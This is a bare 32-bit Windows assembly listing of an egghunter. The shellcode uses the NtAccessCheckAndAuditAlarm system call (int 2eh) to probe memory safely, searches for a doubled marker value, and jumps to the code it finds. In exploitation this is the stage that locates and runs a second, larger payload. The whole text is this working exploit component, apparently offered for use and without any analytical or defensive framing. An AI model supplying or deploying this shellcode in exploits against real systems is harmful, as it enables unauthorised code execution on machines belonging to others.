; Windows, 32 bit: walks through memory with NtAccessCheckAndAuditAlarm (int 2eh, number 2) until it finds its mark twice.
bits 32
page:   or dx, 0xfff
next:   inc edx
        push edx
        push byte 2
        pop eax
        int 2eh
        cmp al, 5
        pop edx
        je page
        mov eax, 0x50905090
        mov edi, edx
        scasd
        jne next
        scasd
        jne next
        jmp edi
